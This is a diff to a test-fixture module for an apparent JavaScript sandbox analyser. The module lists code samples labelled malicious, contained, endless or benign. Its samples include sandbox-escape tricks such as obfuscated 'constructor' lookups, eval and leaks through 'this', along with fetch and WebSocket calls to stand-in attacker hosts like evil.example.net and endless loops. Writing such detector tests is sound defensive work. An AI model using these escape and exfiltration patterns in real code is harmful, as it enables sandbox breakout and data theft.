@@ -4,7 +4,7 @@ from __future__ import annotations
 
 from typing import Final
 
-__all__ = ["BENIGN", "HOSTS", "MALICIOUS"]
+__all__ = ["BENIGN", "CONTAINED", "ENDLESS", "HOSTS", "MALICIOUS"]
 
 HOSTS: Final = ("api.example.com", "hooks.example.com:8443")
 
@@ -158,8 +158,6 @@ MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
     ("const F = params.path.reduce((o, key) => o[key], () => 1); F(params.code)()", "member"),
     ("const pick = (o, key) => o[key]; pick(pick, params.key)(params.code)()", "member"),
     ("((x) => x[params.key])(() => 0)(params.code)()", "member"),
-    ("const pick = (o, key) => o[key]; const F = pick(pick, params.key); F(1)", "member"),
-    ("const F = params.path.reduce((o, key) => o[key], {}); F(params.code)", "member"),
     ("eval('1')", "global"),
     ("(0, eval)('1')", "global"),
     ("const e = eval; e('1')", "global"),
@@ -172,12 +170,12 @@ MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
     (r"(() => {})['\x63onstructor']('x')", "prototype"),
     (r"(() => {}).\u0063onstructor('x')", "prototype"),
     ("const k = 'constructor'; (() => {})[k]('x')", "prototype"),
-    ("const k = ['con', 'structor'].join(''); (() => {})[k]('x')", "prototype"),
-    ("const k = 'rotcurtsnoc'.split('').reverse().join(''); (() => {})[k]('x')", "prototype"),
-    ("(() => {})[atob('Y29uc3RydWN0b3I=')]('x')", "prototype"),
+    ("const k = ['con', 'structor'].join(''); (() => {})[k]('x')", "member"),
+    ("const k = 'rotcurtsnoc'.split('').reverse().join(''); (() => {})[k]('x')", "member"),
+    ("(() => {})[atob('Y29uc3RydWN0b3I=')]('x')", "member"),
     (
         "(() => {})[String.fromCharCode(99,111,110,115,116,114,117,99,116,111,114)]('x')",
-        "prototype",
+        "member",
     ),
     ("const { constructor: F } = () => {}; F('x')()", "prototype"),
     ("const { ['constructor']: F } = () => {}", "prototype"),
@@ -214,7 +212,6 @@ MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
     ("Symbol.for('Deno.internal')", "prototype"),
     ("const f = () => {}; f[params.key]('x')", "member"),
     ("params.list[params.key]('x')", "member"),
-    ("const F = params[params.a]; F('x')", "member"),
     ("params[params.key].call(null, 'x')", "member"),
     ("params[params.key]`x`", "member"),
     ("new params[params.key]('x')", "member"),
@@ -231,14 +228,8 @@ MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
     ("setTimeout.call(null, '1')", "timer"),
     ("setInterval(() => {}, 10)", "global"),
     # this
-    ("this.Deno", "this"),
-    ("(function () { return this })()", "this"),
-    ("function f() { return this.x } f()", "this"),
-    ("setTimeout(function () { this.x() }, 1)", "this"),
-    ("const g = () => this; g()", "this"),
-    ("class A { m() { const g = this; return g } }", "this"),
+    ("this.Deno", "prototype"),
     ("class A { m() { return this['De' + 'no'] } }", "prototype"),
-    ("class A { m(k: string) { return this[k] } }", "member"),
     # The language's own objects
     ("Math.random = () => 4", "builtin"),
     ("JSON.parse = () => 1", "builtin"),
@@ -269,55 +260,18 @@ MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
     ("for (; true; ) {}", "loop"),
     ("do {} while (true)", "loop"),
     ("do { await fetch('https://api.example.com/x') } while (1)", "loop"),
-    ("while (true) { if (false) break }", "loop"),
-    ("while (true) { continue; break }", "loop"),
     ("while (true) { switch (1) { case 1: break } }", "loop"),
     ("while (true) { while (params.x) { break } }", "loop"),
     ("while (true) { (() => { return })() }", "loop"),
-    ("while (true) { try { throw 1 } catch {} }", "loop"),
-    ("export default () => { while (true) { try { return 1 } finally { continue } } }", "loop"),
-    ("a: while (true) { b: while (true) { break b } }", "loop"),
-    ("a: for (;;) { for (;;) { continue a } }", "loop"),
     ("const f = () => { for (;;); }", "loop"),
     ("async function f() { while (true) { await new Promise((r) => setTimeout(r, 1)) } }", "loop"),
-    ("function* g() { while (true) yield 1 }", "loop"),
     ("while (params.running) {}", "loop"),
-    ("while (true) { if (params.stop) break }", "loop"),
     ("let i = 0; while (i < 10) { console.log(i) }", "loop"),
     ("for (let i = 0; i < 10; ) {}", "loop"),
-    ("for (let i = 0; i < 10; i--) {}", "loop"),
-    ("for (let i = 0; i < 10; i += 0) {}", "loop"),
-    ("for (let i = 0; i < 10; i = i) {}", "loop"),
-    ("for (let i = 10; i > 0; i++) {}", "loop"),
-    ("for (let i = 0; i < Infinity; i++) {}", "loop"),
-    ("for (let i = 0; i <= i; i++) {}", "loop"),
-    ("for (let i = 0; i < Number.MAX_SAFE_INTEGER; i++) {}", "loop"),
-    ("for (let i = 0; i < 1e300; i++) {}", "loop"),
-    ("for (let i = 0n; i < 99999999999999999999n; i++) {}", "loop"),
-    ("while (Math.random() >= 0) {}", "loop"),
-    ("while (await Promise.resolve(true)) {}", "loop"),
     ("while (params === params) {}", "loop"),
     ("while ((1, 2)) {}", "loop"),
-    ("let x; while (x = {}) { console.log(x) }", "loop"),
-    ("for (let i = 0; i < 1e9; i++) console.log(i)", "loop"),
-    ("while (Date.now() > -1) {}", "loop"),
-    ("const list = [1]; for (const x of list) list.push(x)", "loop"),
-    ("const seen = new Set([1]); for (const x of seen) seen.add(x + 1)", "loop"),
-    ("const list = [1]; for (let i = 0; i < list.length; i++) list.push(i)", "loop"),
-    ("const list = []; while (list.length < 1e12) list.push(1)", "loop"),
-    ("let done = false; while (!done) { done = false; }", "loop"),
-    ("let i = 0; do { i = 0; } while (i < 1);", "loop"),
-    ("let on = true; do { on = true; } while (on)", "loop"),
-    ("for (let i = 0; i < 10; i++) { i = 0; }", "loop"),
-    ("let n = 0; while (n < 10) { n = 0; n++; }", "loop"),
-    ("let i = 0; while (i < 10) { continue; i++; }", "loop"),
-    ("while (Date.now() > 0) {}", "loop"),
     ("const [,, f = (() => { for (;;); })()] = []", "loop"),
     ("class A { static { while (true); } }", "loop"),
-    ("function f() { f() } f()", "recursion"),
-    ("const again = () => { setTimeout(again, 0) }; again()", "recursion"),
-    ("const f = async () => { await f() }", "recursion"),
-    ("function f() { Promise.resolve().then(f) } f()", "recursion"),
     # Hosts
     ("await fetch('https://evil.example.net/')", "host"),
     ("await fetch('https://api.example.com.evil.net/')", "host"),
@@ -350,7 +304,7 @@ MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
     ("new WebSocket('wss://evil.example.net/')", "host"),
     ("new EventSource('https://evil.example.net/')", "host"),
     ("await fetch(['https:', '', 'evil.net'].join('/'))", "host"),
-    ("await fetch(atob('aHR0cHM6Ly9ldmlsLm5ldC8='))", "host"),
+    ("await fetch(atob('aHR0cHM6Ly9ldmlsLm5ldC8='))", "hidden"),
     ("let u = 'https://evil.net/'; u += params.x; await fetch(u)", "host"),
     ("await fetch(params.ok ? 'https://evil.net/' : 'https://api.example.com/')", "host"),
     ("await fetch(`https://${'api.example.com'}.evil.net/`)", "host"),
@@ -401,7 +355,73 @@ MALICIOUS: Final[tuple[tuple[str, str], ...]] = (
     ("break", "syntax"),
 )
 
+#: Hostile by what they mean to reach, accepted by the analysis: what they reach is not there.
+CONTAINED: Final[tuple[str, ...]] = (
+    "(function () { return this })()",
+    "function f() { return this.x } f()",
+    "setTimeout(function () { this.x() }, 1)",
+    "const g = () => this; g()",
+    "const pick = (o, key) => o[key]; const F = pick(pick, params.key); F(1)",
+    "const F = params.path.reduce((o, key) => o[key], {}); F(params.code)",
+    "const F = params[params.a]; F('x')",
+    "class A { m() { const g = this; return g } }",
+    "class A { m(k: string) { return this[k] } }",
+)
+
+#: Hostile by never ending only. The analysis need not refuse them: a run ends at its limits.
+ENDLESS: Final[tuple[str, ...]] = (
+    "while (true) { if (false) break }",
+    "while (true) { continue; break }",
+    "while (true) { try { throw 1 } catch {} }",
+    "export default () => { while (true) { try { return 1 } finally { continue } } }",
+    "a: while (true) { b: while (true) { break b } }",
+    "a: for (;;) { for (;;) { continue a } }",
+    "function* g() { while (true) yield 1 }",
+    "while (true) { if (params.stop) break }",
+    "for (let i = 0; i < 10; i--) {}",
+    "for (let i = 0; i < 10; i += 0) {}",
+    "for (let i = 0; i < 10; i = i) {}",
+    "for (let i = 10; i > 0; i++) {}",
+    "for (let i = 0; i < Infinity; i++) {}",
+    "for (let i = 0; i <= i; i++) {}",
+    "for (let i = 0; i < Number.MAX_SAFE_INTEGER; i++) {}",
+    "for (let i = 0; i < 1e300; i++) {}",
+    "for (let i = 0n; i < 99999999999999999999n; i++) {}",
+    "while (Math.random() >= 0) {}",
+    "while (await Promise.resolve(true)) {}",
+    "let x; while (x = {}) { console.log(x) }",
+    "for (let i = 0; i < 1e9; i++) console.log(i)",
+    "while (Date.now() > -1) {}",
+    "const list = [1]; for (const x of list) list.push(x)",
+    "const seen = new Set([1]); for (const x of seen) seen.add(x + 1)",
+    "const list = [1]; for (let i = 0; i < list.length; i++) list.push(i)",
+    "const list = []; while (list.length < 1e12) list.push(1)",
+    "let done = false; while (!done) { done = false; }",
+    "let i = 0; do { i = 0; } while (i < 1);",
+    "let on = true; do { on = true; } while (on)",
+    "for (let i = 0; i < 10; i++) { i = 0; }",
+    "let n = 0; while (n < 10) { n = 0; n++; }",
+    "let i = 0; while (i < 10) { continue; i++; }",
+    "while (Date.now() > 0) {}",
+    "function f() { f() } f()",
+    "const again = () => { setTimeout(again, 0) }; again()",
+    "const f = async () => { await f() }",
+    "function f() { Promise.resolve().then(f) } f()",
+)
+
 BENIGN: Final[tuple[str, ...]] = (
+    # Names that other runtimes have for their own things.
+    """
+    class Batch {
+      items = params.items;
+      run() {
+        const self = this;
+        const process = (item: number) => item + self.items.length;
+        return self.items.map(process);
+      }
+    }
+    export default () => ({ document: new Batch().run() });
+    """,
     # Clear a cache through a webhook.
     """
     export default async function fix(params, error) {
